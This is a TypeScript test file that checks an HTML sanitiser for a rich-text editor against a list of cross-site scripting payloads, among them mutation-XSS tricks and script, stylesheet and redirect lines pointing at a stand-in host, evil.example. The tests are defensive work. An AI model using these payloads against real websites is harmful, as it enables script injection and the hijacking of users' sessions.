import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { sanitised } from "./rich-text.ts";

const attacks = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<img src=x onerror=alert(1)>",
  '<p onclick="alert(1)" style="position:fixed">text</p>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  "<svg/onload=alert(1)>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">x</button></form>',
  "<style>@import'//evil.example/x.css'</style>",
  '<base href="//evil.example/"><meta http-equiv="refresh" content="0;url=//evil.example">',
  "<<script>script>alert(1)<</script>/script>",
  "<p>a<!-- <script>alert(1)</script> --></p>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
];

/** Tags and attributes that are left in some HTML. */
const tagsOf = (html: string) =>
  [...html.matchAll(/<([a-z][\w-]*)([^>]*)>/gi)].map(([, tag = "", rest = ""]) => ({ tag, rest }));
const allowed = new Set("p h3 h4 ul ol li strong em u br a blockquote sub sup".split(" "));

describe("what is written in the editors", () => {
  it("keeps structure, emphasis and links that open safely", () => {
    const html =
      "<h3>Resa</h3><p><strong>450 W</strong> <em>n-type</em>, H<sub>2</sub>O, m<sup>2</sup></p><ul><li>uno</li></ul><blockquote>detto</blockquote>";
    expect(sanitised(html)).toBe(html);
    expect(sanitised('<a href="https://solvia.example/x" target="_blank">x</a>')).toBe(
      '<a href="https://solvia.example/x" rel="noopener nofollow">x</a>',
    );
  });

  it.each(attacks)("leaves nothing that runs or leads astray of %s", (attack) => {
    const left = sanitised(`<p>prima</p>${attack}<p>dopo</p>`);
    for (const { tag, rest } of tagsOf(left)) {
      expect(allowed).toContain(tag);
      expect(rest.replace(/ rel="noopener nofollow"/, "")).toMatch(/^( href="(https:|mailto:|tel:)[^"]*")?( \/)?$/);
    }
    expect(left).not.toMatch(/javascript:|evil\.example/i);
    expect(left).toContain("<p>prima</p>");
  });

  it("changes nothing the second time, whatever was written", () => {
    const piece = fc.constantFrom(
      "<p>",
      "</p>",
      "<",
      ">",
      "&",
      "&lt;",
      '"',
      "<a href='",
      "https://x'>",
      "</a>",
      "<b",
      "testo",
      "<!--",
      "-->",
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
        const once = sanitised(pieces.join(""));
        expect(sanitised(once)).toBe(once);
      }),
    );
  });
});
